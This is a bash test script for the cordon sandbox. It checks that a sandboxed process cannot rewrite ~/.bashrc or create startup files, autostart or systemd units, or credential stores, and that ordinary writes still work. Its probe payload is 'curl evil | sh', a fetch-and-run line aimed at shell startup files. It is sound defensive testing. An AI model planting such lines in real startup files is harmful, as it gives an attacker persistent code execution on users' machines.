#!/usr/bin/env bash
# Attack: with --home-access write, plant what the host runs or trusts later: rewrite ~/.bashrc,
# create a missing ~/.zshrc or ~/.gitconfig, a login item in ~/.config/autostart, a user unit in
# ~/.config/systemd/user, or a missing credential store (~/.kube/config, ~/.config/gh/hosts.yml,
# ~/.npmrc) that cordon(1) says is never visible. Expected, on both backends: HOME_READONLY and
# the stores hold in write mode, nothing missing can be created (EROFS under ns, EACCES under
# landlock) and no placeholder is left on the host. Control: existing entries of the home stay
# writable, and the project too.
. "$(dirname "$0")/../lib/tap.sh"

echo "# bashrc" > "$HOME/.bashrc"
mkdir -p "$HOME/.config/tool" "$HOME/.cache"
echo "setting=1" > "$HOME/.config/tool/settings"

append='open(p, "a").write("curl evil | sh\n")'
mk='os.makedirs(p)'
run() { # run BACKEND EXPR PATH: the probe's answer; when it gave none, cordon's stderr instead
        local out
        out=$(cd "$T_PROJECT" && "$CORDON" run --quiet --backend "$1" --home-access write -- \
                python3 -c "$TRY" "$2" "$3" 2>"$T_TMP/run.err")
        if [ -n "$out" ]; then echo "$out"; else sed 's/^/stderr: /' "$T_TMP/run.err"; fi
}

plan 26
for b in ns landlock; do
        e=$([ $b = ns ] && echo EROFS || echo EACCES)
        check "$b: appending to ~/.bashrc: $e" "$e" "$(run $b "$append" "$HOME/.bashrc")"
        check "$b: creating ~/.zshrc: $e" "$e" "$(run $b "$append" "$HOME/.zshrc")"
        check "$b: creating ~/.gitconfig: $e" "$e" "$(run $b "$append" "$HOME/.gitconfig")"
        check "$b: creating ~/.config/autostart: $e" "$e" \
                "$(run $b "$mk" "$HOME/.config/autostart")"
        check "$b: creating ~/.config/systemd/user: $e" "$e" \
                "$(run $b "$mk" "$HOME/.config/systemd/user")"
        check "$b: creating ~/.kube: $e" "$e" "$(run $b "$mk" "$HOME/.kube")"
        check "$b: creating ~/.config/gh: $e" "$e" "$(run $b "$mk" "$HOME/.config/gh")"
        check "$b: creating ~/.npmrc: $e" "$e" "$(run $b "$append" "$HOME/.npmrc")"
        check "$b: control: ~/.config/tool/settings stays writable" "OK:15" \
                "$(run $b "$append" "$HOME/.config/tool/settings")"
        check "$b: control: a new file in ~/.cache" "OK:15" "$(run $b "$append" "$HOME/.cache/new")"
        check "$b: control: a new file in the project" "OK:15" "$(run $b "$append" "$T_PROJECT/new")"
done
check "~/.bashrc is untouched" "# bashrc" "$(cat "$HOME/.bashrc")"
left=$(cd "$HOME" && ls -d .zshrc .gitconfig .config/autostart .config/systemd .kube .config/gh \
        .npmrc .ssh .aws .gnupg 2>/dev/null | tr '\n' ' ')
check "nothing was created in the home (no placeholder either)" "" "$left"
check "control: the writes reached the host" "setting=1 curl evil | sh curl evil | sh " \
        "$(tr '\n' ' ' < "$HOME/.config/tool/settings")"
check "control: with --profile unrestricted under landlock ~/.zshrc can be created" "OK:15" \
        "$(cd "$T_PROJECT" && "$CORDON" run --quiet --backend landlock --profile unrestricted \
                --home-access write -- python3 -c "$TRY" "$append" "$HOME/.zshrc" 2>/dev/null)"
